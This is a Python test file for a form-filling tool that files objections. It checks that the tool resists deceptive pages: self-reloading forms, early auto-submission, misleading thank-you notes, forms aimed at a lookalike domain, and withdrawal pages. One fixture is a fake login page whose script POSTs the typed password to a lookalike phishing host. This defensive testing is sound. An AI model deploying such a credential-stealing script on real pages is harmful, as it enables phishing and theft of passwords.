"""Pages that mislead: they load themselves anew while they are filled in, send what they have, or thank whatever happens."""

import asyncio
from collections.abc import Callable

import pytest
from playwright.async_api import Page

import flows
from objector.browser.errors import StrayedError
from objector.browser.launch import Session
from objector.cases.model import Objection
from objector.filing.person import NobodyThereError
from objector.page.errors import NoAnswerError, SentElsewhereError, StuckError, WithdrawalError
from tests.flows.conftest import DeskOfATest, FormOn
from tests.flows.small_form import ANSWERS, small_form
from tests.parts.served import ELSEWHERE, Served

FORM = small_form()
REFERENCE = "<form method=post action=/sent><label>Reference <input name=reference></label><button>Withdraw</button></form>"
RELOADS = """<script>if (!sessionStorage.once) document.forms[0].oninput = () => {
  sessionStorage.once = 'yes'; location.reload();
};</script>"""
SENDS = "<script>document.forms[0].reason.oninput = () => document.forms[0].requestSubmit();</script>"
HELD = "[document.forms[0].email.value, document.forms[0].reason.value]"
SIGN_IN = f"""<h1>Log in</h1><form><label>Email or phone <input autocomplete=username></label>
<label>Password <input type=password></label><button>Log in</button></form><script>document.forms[0].onsubmit = event => {{
  event.preventDefault(); fetch('{ELSEWHERE}', {{method: 'POST', mode: 'no-cors', body: event.target[1].value}});
}};</script>"""


class Reloads(DeskOfATest):
    """A desk at which the page loads itself anew while its picture is taken."""

    async def keep_filled(self, page: Page) -> None:
        await page.evaluate("new Promise(() => location.reload())")


def test_a_page_that_loads_itself_anew_while_it_is_filled_is_answered_anew(
    run: Callable, show: Callable[[str], Session], form_on: FormOn
) -> None:
    session = show(FORM + RELOADS)
    run(form_on(session, 12).answer(**ANSWERS))
    assert run(session.page.evaluate(HELD)) == list(ANSWERS.values())


def test_a_page_that_loads_itself_anew_right_before_the_submit_is_not_submitted(
    run: Callable, show: Callable[[str], Session], served: Served, form_on: FormOn
) -> None:
    form = form_on(show(FORM), 12)
    form.desk = Reloads(form.page, asyncio.Queue())
    run(form.answer(**ANSWERS))
    with pytest.raises(StuckError, match="again and again"):
        run(form.submit())
    assert (served.posted(), form.desk.fences) == ([], [])


def test_a_form_that_sends_itself_before_it_was_agreed_to_is_in_doubt_and_not_filed_anew(
    run: Callable, show: Callable[[str], Session], served: Served, form_on: FormOn
) -> None:
    served.pages["/sent"] = "<!doctype html><html lang=en><h1>We have received your objection.</h1>"
    form = form_on(show(FORM + SENDS), 4)
    with pytest.raises(NoAnswerError, match="sent before all of it was answered"):
        run(form.answer(**ANSWERS))
    assert len(served.posted()) == 1
    assert form.desk.fences == ["submit"]


def test_thanks_that_stood_on_the_page_before_confirm_nothing(
    run: Callable, show: Callable[[str], Session], served: Served, form_on: FormOn
) -> None:
    thanks = "<footer>Thank you. We have received your objection.</footer>"
    served.pages["/sent"] = f"<!doctype html><html lang=en><h1>Help Centre</h1>{thanks}"
    form = form_on(show(FORM + thanks), 4)
    run(form.answer(**ANSWERS))
    with pytest.raises(NoAnswerError, match="neither yes nor no, but “Help Centre”"):
        run(form.submit())
    assert form.desk.fences == ["submit"]


@pytest.mark.parametrize("method", ["post", "get"])
def test_a_form_that_sends_its_answers_elsewhere_is_stopped_and_leaves_no_doubt(
    method: str, run: Callable, show: Callable[[str], Session], served: Served, form_on: FormOn
) -> None:
    form = form_on(show(FORM.replace("method=post action=/sent", f"method={method} action={ELSEWHERE}sent")), 4)
    run(form.answer(**ANSWERS))
    with pytest.raises(
        SentElsewhereError, match=r"what is filled in to https://www\.faceb00k-help\.com/sent, .*nothing was sent"
    ):
        run(form.submit())
    assert served.hosts() == {"www.facebook.com"}
    assert form.desk.fences == ["submit", f"unfenced: it was to be sent to {ELSEWHERE}sent, and was stopped"]


def test_an_answer_that_is_too_long_for_its_field_is_told_with_the_field_and_both_lengths(
    run: Callable, show: Callable[[str], Session], form_on: FormOn
) -> None:
    form = form_on(show(FORM.replace("<textarea", "<textarea maxlength=20")), 4)
    told = r"Enter at most 20 characters into “Why do you object\?”.* The answer has 35, and objector cuts nothing\. A shorter"
    with pytest.raises(NobodyThereError, match=told):
        run(form.answer(email="anna@example.org", reason="I draw, and this is my profession.."))


def test_a_password_that_the_page_sends_elsewhere_is_stopped(
    run: Callable, show: Callable[[str], Session], served: Served, form_on: FormOn
) -> None:
    form = form_on(show(SIGN_IN), 12)
    with pytest.raises(StrayedError):
        run(form.answer(**ANSWERS))
    assert served.posted() == []


@pytest.mark.parametrize(
    "body",
    [
        f"<title>Withdraw your objection</title>{FORM}",
        f"<h1>Withdraw your objection to AI training</h1>{FORM}",
        f"<h1>Facebook</h1>{FORM.replace('>Submit<', '>Withdraw objection<')}",
        f"<h1>Withdraw your objection</h1>{REFERENCE}",
    ],
    ids=["title", "heading", "button", "nothing else that a form asks"],
)
def test_a_form_that_withdraws_an_objection_is_not_touched(
    run: Callable, served: Served, session: Session, body: str, form_on: FormOn
) -> None:
    flow = flows.get("facebook")
    served.pages["/help/contact/712876720715583"] = f"<!doctype html><html lang=en><body>{body}"
    form = form_on(session, 12)
    with pytest.raises(WithdrawalError, match=r"This page withdraws an objection, .*712876720715583\. Nothing was sent"):
        run(flow.file(form, Objection(email="anna@example.org", country="DE", reason="I draw.")))
    assert run(session.page.evaluate("[...document.querySelectorAll('input,textarea')].map(box => box.value).join('')")) == ""
    assert (served.posted(), form.desk.fences, form.desk.reviews) == ([], [], [])
